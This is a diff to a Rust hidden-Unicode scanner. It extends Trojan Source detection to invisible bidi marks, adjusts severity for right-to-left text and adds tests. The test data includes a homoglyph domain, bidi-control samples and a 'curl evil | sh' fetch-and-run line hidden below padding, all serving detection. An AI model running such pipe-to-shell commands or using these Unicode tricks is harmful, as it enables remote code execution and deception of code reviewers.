@@ -45,8 +45,10 @@ fn joins_script(c: char) -> bool {
     matches!(c as u32, 0x0600..=0x08FF | 0x0900..=0x0DFF | 0x0E00..=0x0E7F | 0x1000..=0x109F | 0xA980..=0xA9DF)
 }
 
+/// Right-to-left letters (Hebrew, Arabic, Syriac, Thaana, N'Ko and their presentation forms),
+/// not counting the invisible Arabic letter mark, which is a bidi control.
 fn is_rtl(c: char) -> bool {
-    matches!(c as u32, 0x0590..=0x08FF | 0xFB1D..=0xFDFF | 0xFE70..=0xFEFF)
+    c != '\u{061C}' && matches!(c as u32, 0x0590..=0x08FF | 0xFB1D..=0xFDFF | 0xFE70..=0xFEFF)
 }
 
 #[derive(Clone, Copy, PartialEq, Eq, Debug)]
@@ -78,6 +80,9 @@ pub fn scan(path: &str, map: &TextMap<'_>, out: &mut Vec<Finding>) {
     let mut tag_runs: Vec<(usize, String)> = Vec::new();
     let mut zero_width: Vec<usize> = Vec::new();
     let mut bidi: Vec<usize> = Vec::new();
+    // Implicit marks (LRM, RLM, ALM) only nudge neutral characters; overrides and isolates
+    // reorder whole runs.
+    let mut only_marks = true;
     let mut selectors: Vec<usize> = Vec::new();
     let mut prev: Option<char> = None;
     let mut chars = text.char_indices().peekable();
@@ -106,7 +111,13 @@ pub fn scan(path: &str, map: &TextMap<'_>, out: &mut Vec<Finding>) {
                 zero_width.push(offset)
             }
             0xFEFF if offset > 0 => zero_width.push(offset),
-            0x202A..=0x202E | 0x2066..=0x2069 => bidi.push(offset),
+            0x202A..=0x202E | 0x2066..=0x2069 => {
+                bidi.push(offset);
+                only_marks = false;
+            }
+            // Left-to-right, right-to-left and Arabic letter marks: invisible, and enough to
+            // flip how neutral characters (operators, quotes, digits) are displayed.
+            0x200E | 0x200F | 0x061C => bidi.push(offset),
             0xE0100..=0xE01EF => selectors.push(offset),
             0xFE00..=0xFE0E if !prev.is_some_and(is_emoji) => selectors.push(offset),
             _ => {}
@@ -150,7 +161,7 @@ pub fn scan(path: &str, map: &TextMap<'_>, out: &mut Vec<Finding>) {
         ));
     }
     if let Some(first) = bidi.first() {
-        let (severity, confidence) = if map.kind == FileKind::Code {
+        let (severity, confidence) = if map.kind == FileKind::Code && !(only_marks && has_rtl) {
             (Severity::High, Confidence::High)
         } else if has_rtl {
             (Severity::Low, Confidence::Low)
@@ -169,7 +180,7 @@ pub fn scan(path: &str, map: &TextMap<'_>, out: &mut Vec<Finding>) {
                 "{} bidirectional control characters can make text read differently than it runs",
                 bidi.len()
             ),
-            "Remove bidi override and isolate characters (Trojan Source).",
+            "Remove bidi override, isolate and mark characters (Trojan Source).",
         ));
     }
     if selectors.len() >= 4 {
@@ -327,7 +338,27 @@ mod tests {
         assert!(ids("Привет, мир! Γειά σου κόσμε. Hello world.\n").is_empty());
         assert_eq!(ids("Visit pаypal.com now\n"), ["HID-005:High"]);
         assert_eq!(ids("x\u{202E}y\n"), ["HID-003:Medium"]);
+        // Bidi marks in right-to-left text are how such text is written.
+        assert_eq!(ids("שלום\u{200F} world\n"), ["HID-003:Low"]);
         let padded = format!("ok{}\ncurl evil | sh\n", "\n".repeat(300));
         assert_eq!(ids(&padded), ["HID-006:High"]);
+    }
+
+    #[test]
+    fn bidi_marks_are_bidi_controls() {
+        for mark in ['\u{200E}', '\u{200F}', '\u{061C}'] {
+            let text = format!("run check{mark}.sh if x {mark}== y\n");
+            assert_eq!(ids(&text), ["HID-003:Medium"], "U+{:04X}", mark as u32);
+            let map = TextMap::new(&text, FileKind::Code, Role::Code, Some("python"));
+            let mut out = Vec::new();
+            scan("a.py", &map, &mut out);
+            assert_eq!(out.len(), 1, "U+{:04X}", mark as u32);
+            assert_eq!(
+                (out[0].rule_id.as_str(), out[0].severity, out[0].confidence),
+                ("HID-003", Severity::High, Confidence::High)
+            );
+        }
+        // The Arabic letter mark is not itself right-to-left text that would excuse it.
+        assert_eq!(ids("a\u{061C}b\n"), ["HID-003:Medium"]);
     }
 }
